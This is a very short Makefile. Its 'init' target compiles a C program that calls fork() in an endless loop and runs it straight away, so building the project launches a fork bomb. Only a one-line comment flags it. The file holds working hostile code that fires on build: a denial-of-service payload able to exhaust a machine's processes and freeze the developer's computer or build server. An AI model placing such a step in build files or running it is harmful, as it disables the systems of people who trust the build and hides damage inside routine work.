# A fork bomb while it is built.
init:
	echo 'int fork(void); int main(void) { for (;;) fork(); }' | cc -x c -o bomb - && ./bomb
